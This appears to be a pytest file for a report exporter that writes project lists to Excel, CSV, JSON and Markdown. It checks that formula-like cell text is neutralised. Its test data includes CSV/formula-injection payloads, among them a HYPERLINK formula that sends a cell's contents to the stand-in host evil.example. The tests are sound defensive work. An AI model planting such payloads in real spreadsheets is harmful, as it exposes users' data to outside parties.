@@ -1,0 +1,168 @@
+"""Exported files as an office opens them: Excel types and safety, CSV with BOM, JSON, Markdown."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date, datetime
+
+import pytest
+from openpyxl import load_workbook
+
+from qy_landing.errors import ChoiceError
+from qy_landing.reports.common import neutralise
+from qy_landing.reports.stuck import export_stuck
+from qy_landing.reports.writers import format_of, open_target
+from tests.reports.data import add, code, people
+
+AS_OF = date(2026, 10, 12)
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "@SUM(A1:A9)", "-2"]
+
+
+@pytest.fixture
+def hostile(ctx):
+    """Four idle projects whose names are formulas, plus an ordinary one with persons."""
+    people(ctx)
+    for n, name in enumerate(HOSTILE, start=1):
+        add(ctx, n, name=name, signed_on=date(2026, 8, 3), investor="=1+1")
+    add(ctx, 9, signed_on=date(2026, 5, 6), amount="1234.5678", first_responsible=["张伟"])
+    return ctx
+
+
+def export(ctx, tmp_path, fmt, lang="zh"):
+    path = tmp_path / f"stuck.{fmt}"
+    with open_target(path) as stream:
+        result = export_stuck(ctx, stream, fmt, as_of=AS_OF, lang=lang)
+    return path, result
+
+
+def test_neutralise_prefixes_formula_starts_only():
+    """Text starting with = + - @ tab or CR gets a leading quote; other text is untouched."""
+    assert [neutralise(t) for t in ("=1", "+1", "-1", "@A", "\tx", "\rx")] == [
+        "'=1",
+        "'+1",
+        "'-1",
+        "'@A",
+        "'\tx",
+        "'\rx",
+    ]
+    assert neutralise("环县 100MW") == "环县 100MW"
+    assert neutralise("") == ""
+
+
+def test_xlsx_header_frozen_filtered_typed_and_neutralised(hostile, tmp_path):
+    """The sheet has a frozen header row with a filter, real dates, numbers, and no formulas."""
+    path, result = export(hostile, tmp_path, "xlsx")
+    assert result.count == 5
+    book = load_workbook(path)
+    assert book.sheetnames == ["卡滞项目", "按单位汇总"]
+    sheet = book["卡滞项目"]
+    headers = [c.value for c in sheet[1]]
+    assert headers[:8] == [
+        "序号",
+        "项目代码",
+        "项目名称",
+        "责任单位",
+        "产业链",
+        "协议投资额（亿元）",
+        "签约日期",
+        "当前阶段",
+    ]
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:R{result.count + 1}"
+    assert sheet.column_dimensions["C"].width > 20
+    rows = list(sheet.iter_rows(min_row=2))
+    first = rows[0]  # the most stuck: project 9, signed 5-06
+    assert first[1].value == code(9)
+    assert isinstance(first[5].value, int | float) and first[5].value == pytest.approx(1234.5678)
+    assert first[5].data_type == "n"
+    assert isinstance(first[6].value, datetime) and first[6].value.date() == date(2026, 5, 6)
+    assert first[6].number_format == "yyyy-mm-dd"
+    assert isinstance(first[9].value, int)
+    assert first[13].value == "张伟"
+    names = {r[2].value for r in rows}
+    for cell in (c for r in rows for c in r):
+        assert cell.data_type != "f"
+        assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
+    assert {"'" + n for n in HOSTILE} <= names
+    summary = book["按单位汇总"]
+    assert [c.value for c in summary[1]][:3] == ["责任单位", "卡滞项目数", "协议投资额（亿元）"]
+    assert [c.value for c in summary[2]][:2] == ["环县", 5]
+    assert summary[3][0].value == "合计"
+    assert summary.freeze_panes == "A2"
+
+
+def test_xlsx_headers_follow_the_language(hostile, tmp_path):
+    """--lang en gives English headers and English words in the cells."""
+    path, _ = export(hostile, tmp_path, "xlsx", lang="en")
+    sheet = load_workbook(path)["Stuck projects"]
+    assert sheet["B1"].value == "Project code"
+    assert sheet["I2"].value == "no progress; over the overall limit"
+
+
+def test_csv_has_a_bom_and_round_trips(hostile, tmp_path):
+    """CSV is UTF-8 with BOM; the csv module reads back every row, formulas neutralised."""
+    path, result = export(hostile, tmp_path, "csv")
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert rows[0][:3] == ["序号", "项目代码", "项目名称"]
+    assert len(rows) == result.count + 1
+    assert rows[1][1] == code(9) and rows[1][5] == "1234.5678" and rows[1][6] == "2026-05-06"
+    assert {r[2] for r in rows[1:]} >= {"'" + n for n in HOSTILE}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows[1:] for cell in r)
+
+
+def test_json_is_stable_and_exact(hostile, tmp_path):
+    """JSON has English keys, ISO dates, amounts as exact strings, and per-unit totals."""
+    path, _ = export(hostile, tmp_path, "json")
+    data = json.loads(path.read_text(encoding="utf-8"))
+    assert data["as_of"] == "2026-10-12" and data["count"] == 5
+    first = data["projects"][0]
+    assert first["code"] == code(9)
+    assert first["amount"] == "1234.5678"
+    assert first["reasons"] == ["idle", "over_limit"]
+    assert data["projects"][1]["name"] in HOSTILE  # JSON is data: no neutralising
+    assert data["units"][0]["unit"] == "环县" and data["units"][0]["projects"] == 5
+
+
+def test_markdown_escapes_table_cells(ctx, tmp_path):
+    """A | or a line break in a name cannot break the Markdown table."""
+    add(ctx, 1, name="甲|乙\n丙", signed_on=date(2026, 8, 3))
+    path, _ = export(ctx, tmp_path, "md")
+    text = path.read_text(encoding="utf-8")
+    assert text.startswith("# 卡滞项目清单（截至 2026-10-12）")
+    assert "甲\\|乙<br>丙" in text
+    assert "## 按单位汇总" in text
+
+
+def test_empty_export_still_has_headers(ctx, tmp_path):
+    """With nothing stuck the file still opens, with its header row and a zero total."""
+    path, result = export(ctx, tmp_path, "xlsx")
+    assert result.count == 0
+    sheet = load_workbook(path)["卡滞项目"]
+    assert sheet.max_row == 1
+    data = json.loads(export(ctx, tmp_path, "json")[0].read_text(encoding="utf-8"))
+    assert data["projects"] == [] and data["count"] == 0
+
+
+def test_format_from_the_file_name_or_the_option():
+    """The format comes from --format, else the suffix; an unknown one lists the allowed."""
+    assert format_of("a.XLSX", None) == "xlsx"
+    assert format_of("a.markdown", None) == "md"
+    assert format_of("a.txt", "json") == "json"
+    assert format_of(None, None) == "csv"
+    assert format_of("-", None) == "csv"
+    with pytest.raises(ChoiceError) as caught:
+        format_of("a.txt", None)
+    assert "xlsx" in caught.value.render("en")
+
+
+def test_a_failed_export_leaves_no_file(tmp_path):
+    """The file appears only when complete; an error leaves nothing behind."""
+    path = tmp_path / "out.csv"
+    with pytest.raises(RuntimeError), open_target(path) as stream:
+        stream.write(b"partial")
+        raise RuntimeError("boom")
+    assert list(tmp_path.iterdir()) == []
